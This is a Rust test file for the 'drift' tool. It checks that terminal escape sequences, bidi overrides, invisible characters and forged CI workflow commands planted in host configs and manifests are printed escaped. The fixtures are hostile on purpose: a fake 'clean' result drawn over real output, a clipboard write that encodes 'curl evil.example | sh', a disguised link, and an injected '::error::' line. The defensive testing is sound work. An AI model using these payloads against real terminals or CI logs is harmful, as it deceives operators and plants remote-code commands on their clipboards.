//! Terminal injection (issue 17): escape sequences, C1 controls, bidi
//! overrides and invisible characters planted in what a host holds, in a
//! forged manifest and in a drift.toml reach the terminal escaped, in every
//! command and format; drift's own colours are the only escape sequences
//! it prints.

use std::path::Path;

use drift_core::manifest::{Collection, ManifestBuilder};
use drift_core::value::Version;
use drift_core::{CollectionError, ErrorKind, KeyPath, Sanitizer, Value};

use crate::support::{Drift, Run};

/// A line of prod's nginx.conf that would move up a line, erase the real
/// finding and draw a fake clean result.
const FAKE_CLEAN: &str = "\x1b[1A\x1b[2K\x1b[32m0 findings · result: clean\x1b[0m";
/// OSC 52: set the clipboard.
const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
/// OSC 8: a link that shows one text and opens another.
const LINK: &str = "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\";
/// A right-to-left override and a zero-width space.
const BIDI: &str = "\u{202e}gnp.exe\u{200b}";

/// Asserts that `bytes` hold no byte nor character a terminal would obey
/// or hide, but line ends and, when `colours`, drift's own SGR colours.
fn assert_inert(bytes: &[u8], colours: bool, what: &str) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let mut rest = text;
    let mut plain = String::new();
    while let Some(at) = rest.find('\x1b') {
        plain.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let sgr = after.strip_prefix('[').and_then(|a| {
            let end = a.find(|c: char| !c.is_ascii_digit() && c != ';')?;
            (a.as_bytes()[end] == b'm').then_some(&a[end + 1..])
        });
        match sgr {
            Some(r) if colours => rest = r,
            _ => panic!(
                "{what}: an escape sequence that is not drift's: {:?}",
                &rest[at..]
            ),
        }
    }
    plain.push_str(rest);
    for c in plain.chars() {
        assert!(
            c == '\n' || !drift_core::display::is_hidden(c),
            "{what}: U+{:04X} written as it is:\n{plain}",
            u32::from(c)
        );
    }
}

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(path, text).unwrap();
}

/// Two environments from folders: prod's `nginx.conf` holds the fake
/// result, a YAML file with a hostile name does not parse, and the
/// drift.toml's reason holds escapes of its own.
fn hostile_tree(dir: &Path) -> std::path::PathBuf {
    write(&dir.join("dev/nginx.conf"), "worker_processes 2;\n");
    write(
        &dir.join("prod/nginx.conf"),
        &format!("worker_processes 8;\n{FAKE_CLEAN}\n# {CLIPBOARD} {LINK} {BIDI}\n"),
    );
    write(&dir.join("dev/app.env"), "MODE=a\n");
    write(&dir.join("prod/app.env"), &format!("MODE=b{LINK}\n"));
    write(
        &dir.join(format!("prod/broken{CLIPBOARD}.yaml")),
        "a: [unclosed\n",
    );
    let toml = dir.join("drift.toml");
    write(
        &toml,
        "[environments.dev]\nconfig_dirs = [\"dev\"]\n\
         [environments.prod]\nconfig_dirs = [\"prod\"]\n\
         [[rules]]\nkeys = \"file:*\"\nseverity = \"error\"\n\
         reason = \"ops approved\\u001b[8m hidden\\u001b]8;;https://evil.example\\u0007\"\n",
    );
    toml
}

fn assert_run_inert(run: &Run, colours: bool, what: &str) {
    assert_inert(run.stdout_bytes(), colours, &format!("{what} stdout"));
    assert_inert(run.stderr_bytes(), false, &format!("{what} stderr"));
}

#[test]
fn check_shows_what_hosts_hold_escaped_in_text_and_json() {
    let dir = tempfile::tempdir().unwrap();
    let toml = hostile_tree(dir.path());
    for colour in ["never", "always"] {
        let run = Drift::new()
            .args(["check", "--color", colour, "--config"])
            .arg_path(&toml)
            .status(3);
        assert_run_inert(&run, colour == "always", "check text");
        let out = run.stdout();
        for shown in [
            "\\u{1b}[1A\\u{1b}[2K\\u{1b}[32m0 findings · result: clean\\u{1b}[0m",
            "\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{7}",
            "\\u{1b}]8;;https://evil.example\\u{1b}\\docs",
            "\\u{202e}gnp.exe\\u{200b}",
            "ops approved\\u{1b}[8m hidden",
            // The hostile file's name, in the collection error.
            "broken\\u{1b}]52;c;",
        ] {
            assert!(out.contains(shown), "`{shown}` not in:\n{out}");
        }
    }
    let run = Drift::new()
        .args(["check", "--format", "json", "--config"])
        .arg_path(&toml)
        .status(3);
    assert_run_inert(&run, false, "check json");
    // The JSON report keeps the data whole: read back, it is what prod holds.
    let v = run.json();
    let nginx = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["key"] == "file:nginx.conf")
        .expect("nginx.conf");
    let unified = nginx["detail"]["diffs"][0]["unified"].as_str().unwrap();
    assert!(
        unified.contains(FAKE_CLEAN) && unified.contains(BIDI),
        "{unified}"
    );
    let source = v["errors"][0]["source"].as_str().unwrap();
    assert!(source.contains(CLIPBOARD), "{source}");
}

/// A manifest forged by hand: every name and text in it hostile.
fn forged(dir: &Path, env: &str, version: &str, value: &str) -> std::path::PathBuf {
    let mut c = Collection::new();
    c.insert(
        KeyPath::new(format!("env:MODE{BIDI}")).unwrap(),
        Value::from(value),
    );
    c.insert(
        KeyPath::new("package:deb:openssl").unwrap(),
        Value::from(Version {
            scheme: "deb".into(),
            text: version.into(),
            dev: false,
        }),
    );
    c.error(CollectionError::new(
        "config",
        format!("/etc/app/{CLIPBOARD}.yaml"),
        ErrorKind::Parse,
        format!("expected a value {FAKE_CLEAN}"),
    ));
    let mut b = ManifestBuilder::new(env, "local", Sanitizer::default());
    b.add("test", "1", c);
    let m = b.finish(Some("2026-11-26T00:00:00Z".into()));
    let path = dir.join(format!(
        "{}.json",
        if env == "dev" { "dev" } else { "prod" }
    ));
    std::fs::write(&path, m.to_json_string()).unwrap();
    path
}

#[test]
fn diff_shows_a_forged_manifest_escaped_in_text_and_json() {
    let dir = tempfile::tempdir().unwrap();
    let dev = forged(dir.path(), "dev", "3.0.19", "a");
    let prod_name = format!("prod{CLIPBOARD}");
    let prod = forged(
        dir.path(),
        &prod_name,
        &format!("3.0.11{LINK}"),
        "b\u{9b}2J",
    );
    // The manifest file itself holds none of it raw.
    assert_inert(&std::fs::read(&prod).unwrap(), false, "the manifest");
    for colour in ["never", "always"] {
        let run = Drift::new()
            .args(["diff", "--color", colour])
            .arg_path(&dev)
            .arg_path(&prod)
            .status(3);
        assert_run_inert(&run, colour == "always", "diff text");
        let out = run.stdout();
        for shown in [
            "prod\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{7}",
            "env:MODE\\u{202e}gnp.exe\\u{200b}",
            "3.0.11\\u{1b}]8;;https://evil.example\\u{1b}\\docs",
            "b\\u{9b}2J",
            "expected a value \\u{1b}[1A\\u{1b}[2K",
        ] {
            assert!(out.contains(shown), "`{shown}` not in:\n{out}");
        }
    }
    let run = Drift::new()
        .args(["diff", "--format", "json"])
        .arg_path(&dev)
        .arg_path(&prod)
        .status(3);
    assert_run_inert(&run, false, "diff json");
    let v = run.json();
    assert_eq!(v["environments"][1]["name"], prod_name.as_str());
}

#[test]
fn an_error_naming_a_forged_manifest_is_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let dev = forged(dir.path(), "dev", "1", "a");
    let name = dir.path().join(format!("x{CLIPBOARD}.json"));
    std::fs::write(&name, "{\"format\": \"drift-manifest/1\", \"entries\": 3}").unwrap();
    let run = Drift::new()
        .args(["diff"])
        .arg_path(&dev)
        .arg_path(&name)
        .status(2)
        .stderr_has("x\\u{1b}]52;c;");
    assert_run_inert(&run, false, "diff error");
}

#[test]
fn snapshot_writes_what_a_host_holds_escaped() {
    let dir = tempfile::tempdir().unwrap();
    hostile_tree(dir.path());
    let run = Drift::new()
        .args(["snapshot", "--env", "prod", "--config-dir"])
        .arg_path(&dir.path().join("prod"))
        .status(3);
    // The manifest on standard output, and the errors on standard error.
    assert_run_inert(&run, false, "snapshot");
    let run = run.stderr_has("broken\\u{1b}]52;c;");
    let m = drift_core::Manifest::from_slice(run.stdout_bytes(), "<stdout>").unwrap();
    let Some(Value::File(f)) = m.get("file:nginx.conf") else {
        panic!("nginx.conf is not a file");
    };
    assert!(f.text.as_deref().unwrap_or_default().contains(FAKE_CLEAN));
}

/// The CI formats of a run, on standard output and as `--report` files:
/// `(format, bytes)`.
fn ci_reports(base: &[&str], inputs: &[&Path], dir: &Path, code: i32) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for format in ["sarif", "junit", "github", "gitlab"] {
        let file = dir.join(format!("report.{format}"));
        let run = Drift::new()
            .args(base)
            .args(inputs.iter().map(|p| p.as_os_str()))
            .args(["--format", format, "--report"])
            .arg_path(Path::new(&format!("{format}={}", file.display())))
            .status(code);
        assert_inert(run.stderr_bytes(), false, &format!("{format} stderr"));
        out.push((format!("{format} stdout"), run.stdout_bytes().to_vec()));
        out.push((format!("{format} file"), std::fs::read(&file).unwrap()));
    }
    out
}

/// Every string of a JSON document, decoded.
fn json_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
        serde_json::Value::Object(o) => o.iter().for_each(|(k, x)| {
            out.push(k.clone());
            json_strings(x, out);
        }),
        _ => {}
    }
}

fn assert_ci_reports_inert(reports: &[(String, Vec<u8>)]) {
    for (what, bytes) in reports {
        assert_inert(bytes, false, what);
        if what.starts_with("sarif") || what.starts_with("gitlab") {
            // Decoded too: a JSON reader gets the escaped text, not the
            // characters.
            let v: serde_json::Value = serde_json::from_slice(bytes).unwrap();
            let mut strings = Vec::new();
            json_strings(&v, &mut strings);
            for s in strings {
                assert_inert(s.as_bytes(), false, what);
            }
        }
        if what.starts_with("github") {
            let text = String::from_utf8_lossy(bytes);
            for line in text.lines().filter(|l| l.starts_with("::")) {
                assert!(
                    ["::error ", "::warning ", "::notice "]
                        .iter()
                        .any(|c| line.starts_with(c)),
                    "{line}"
                );
            }
        }
        if what.starts_with("sarif") {
            drift_test_support::sarif::assert_valid_sarif(&String::from_utf8_lossy(bytes));
        }
    }
}

#[test]
fn every_ci_format_shows_what_hosts_hold_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let toml = hostile_tree(dir.path());
    let reports = ci_reports(&["check", "--config"], &[&toml], dir.path(), 3);
    assert_ci_reports_inert(&reports);
    let junit = &reports.iter().find(|(w, _)| w == "junit file").unwrap().1;
    let junit = String::from_utf8_lossy(junit);
    assert!(junit.contains("name=\"file:nginx.conf\""), "{junit}");
}

#[test]
fn every_ci_format_shows_a_forged_manifest_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let dev = forged(dir.path(), "dev", "3.0.19", "a\u{0}\u{ffff}");
    let prod = forged(
        dir.path(),
        &format!("prod{CLIPBOARD}"),
        &format!("3.0.11{LINK}"),
        "b\u{9b}2J\n::error::forged",
    );
    let reports = ci_reports(
        &["diff", "--fail-on", "info"],
        &[&dev, &prod],
        dir.path(),
        3,
    );
    assert_ci_reports_inert(&reports);
    let github = &reports
        .iter()
        .find(|(w, _)| w == "github stdout")
        .unwrap()
        .1;
    let github = String::from_utf8_lossy(github);
    assert!(!github.contains("\n::error::forged"), "{github}");
    assert!(github.contains("env%3AMODE\\u{202e}gnp.exe"), "{github}");
}
